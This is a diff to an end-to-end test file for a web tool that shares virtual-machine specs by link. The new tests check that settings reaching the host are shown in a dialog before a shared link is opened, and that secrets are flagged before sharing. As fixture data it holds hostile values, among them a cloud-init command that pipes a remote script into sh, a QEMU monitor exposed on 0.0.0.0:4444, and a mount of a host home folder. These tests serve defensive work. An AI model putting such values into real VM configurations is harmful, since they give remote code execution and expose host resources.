@@ -61,6 +61,10 @@ test('the link gives the same outputs in another browser, byte for byte', async 
   const mine = await copyAllOutputs(page)
 
   const other = await openElsewhere(browser, link)
+  // Its share and its disk are outside of the VM's folder, which is said before it is taken.
+  const asked = other.getByRole('dialog', { name: /^Open Zoë/ })
+  await expect(asked.getByRole('list', { name: 'What it touches' })).toContainText('/srv/data.qcow2')
+  await asked.getByRole('button', { name: 'Open', exact: true }).click()
   await expect(other.getByRole('textbox', { name: 'Name of the VM' })).toHaveValue('Zoë’s <lab> & "co"')
   // The link is no longer in the address: a reload must not bring it over what is done next.
   expect(new URL(other.url()).hash).toBe('')
@@ -106,6 +110,69 @@ test('nothing of one’s own is asked about', async ({ page }) => {
   await expect(page.getByRole('dialog')).toHaveCount(0)
 })
 
+test('what would touch the host is listed before a link is taken, and only then', async ({ page }) => {
+  const reaching = linkOf(
+    JSON.stringify({
+      name: 'theirs',
+      spec: {
+        cloud_init: { runcmd: ['curl https://example.org/x | sh'] },
+        libvirt: {
+          qemu_arguments: ['-monitor', 'tcp:0.0.0.0:4444'],
+          snippets: ["<hub type='usb'/>"],
+          devices: {
+            emulator: '/tmp/emulator',
+            filesystems: [{ source: '/home/me', target: 'home' }],
+            hostdevs: [{ type: 'usb', source: { vendor: '0x1234', product: '0x5678' } }],
+          },
+        },
+      },
+    }),
+  )
+  await openPage(page, reaching)
+  const dialog = page.getByRole('dialog', { name: 'Open theirs?' })
+  const list = dialog.getByRole('list', { name: 'What it touches' })
+  for (const text of [
+    'The guest sees the folder /home/me and may write in it',
+    'The guest gets a USB device of the host (0x1234 0x5678)',
+    'It runs or boots /tmp/emulator of the host',
+    'QEMU gets -monitor tcp:0.0.0.0:4444',
+    "libvirt gets <hub type='usb'/>",
+    'root of the guest runs curl https://example.org/x | sh',
+  ])
+    await expect(list).toContainText(text)
+  await page.keyboard.press('Escape')
+  await expect(page.getByRole('textbox', { name: 'Name of the VM' })).not.toHaveValue('theirs')
+  await page.evaluate((fragment) => {
+    location.hash = fragment
+  }, reaching)
+  await dialog.getByRole('button', { name: 'Open', exact: true }).click()
+  await expect(page.getByRole('textbox', { name: 'Name of the VM' })).toHaveValue('theirs')
+})
+
+test('secrets are named before a link or a bundle with them is handed out', async ({ page }) => {
+  await openPage(
+    page,
+    linkOf(
+      JSON.stringify({
+        name: 'theirs',
+        spec: { disk_size: '10G', libvirt: { description: 'token: hunter2hunter2' } },
+      }),
+    ),
+  )
+  await page.getByRole('button', { name: 'Share', exact: true }).click()
+  const share = page.getByRole('dialog', { name: 'The link will hold these' })
+  await expect(share).toContainText('libvirt.description')
+  await expect(share).not.toContainText('hunter2')
+  await page.keyboard.press('Escape')
+  await page.getByRole('button', { name: 'Download', exact: true }).click()
+  await page.getByRole('menuitem', { name: /^Everything as zip/ }).click()
+  const bundle = page.getByRole('dialog', { name: 'theirs.zip will hold these' })
+  await expect(bundle).toContainText('libvirt.description')
+  const download = page.waitForEvent('download')
+  await bundle.getByRole('button', { name: 'Download theirs.zip' }).click()
+  expect((await download).suggestedFilename()).toBe('theirs.zip')
+})
+
 const long = JSON.stringify({ name: 'a', spec: { libvirt: { description: 'x'.repeat(300 * 1024) } } })
 
 const hostile: readonly (readonly [string, string, RegExp])[] = [
@@ -149,7 +216,7 @@ test('hostile links are refused with a reason, and the page works on', async ({ 
       await page.evaluate((fragment) => {
         location.hash = fragment
       }, link)
-      const dialog = page.getByRole('dialog', { name: 'The link gives no VM' })
+      const dialog = page.getByRole('dialog', { name: 'No VM in the link' })
       await expect(dialog).toContainText(reason)
       await dialog.getByRole('button', { name: 'Close' }).click()
       await expect(dialog).toHaveCount(0)
@@ -219,6 +286,7 @@ test('keys, passwords and paths under a home are named before the link is copied
       }),
     ),
   )
+  await page.getByRole('dialog', { name: 'Open secretive?' }).getByRole('button', { name: 'Open' }).click()
   await expect(page.getByRole('textbox', { name: 'Name of the VM' })).toHaveValue('secretive')
   await page.evaluate(() => navigator.clipboard.writeText('before'))
   await page.getByRole('button', { name: 'Share', exact: true }).click()
